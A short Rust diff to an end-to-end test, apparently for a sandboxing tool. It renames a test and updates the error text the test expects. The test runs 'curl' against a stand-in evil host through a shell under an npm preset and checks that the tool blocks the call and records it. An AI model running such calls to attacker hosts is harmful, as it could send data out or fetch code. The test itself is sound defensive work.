@@ -8,7 +8,7 @@ use e2e::case::{Cases, Cx};
 use e2e::run::Done;
 
 pub(crate) fn cases(list: &mut Cases) {
-    list.users("presets::what_a_client_did_not_say_is_told_last", told_last);
+    list.users("presets::what_a_client_did_not_say_is_told_last", reports_last);
     list.once("presets::a_second_question_costs_less_than_5_ms", second_question);
 }
 
@@ -31,7 +31,7 @@ fn run(cx: &Cx, path: &str, words: &[&str]) -> Done {
 }
 
 /// Users look at the end: the line comes after the refusals, and is in the record.
-fn told_last(cx: &Cx) {
+fn reports_last(cx: &Cx) {
     let path = client(cx, 1);
     let script = format!("echo started >&2; curl -sS https://{}/", cx.evil());
     let done = run(cx, &path, &["-p", "npm", "--", "sh", "-c", &script]);
@@ -44,7 +44,7 @@ fn told_last(cx: &Cx) {
     let missing: Vec<_> = notes.iter().filter(|note| note["what"] == "hosts_missing").collect();
     assert_eq!(missing.len(), 1, "{notes:?}");
     assert!(
-        missing[0]["error"].as_str().is_some_and(|why| why.contains("the client stopped before")),
+        missing[0]["error"].as_str().is_some_and(|why| why.contains("the client could not fetch")),
         "{missing:?}"
     );
 
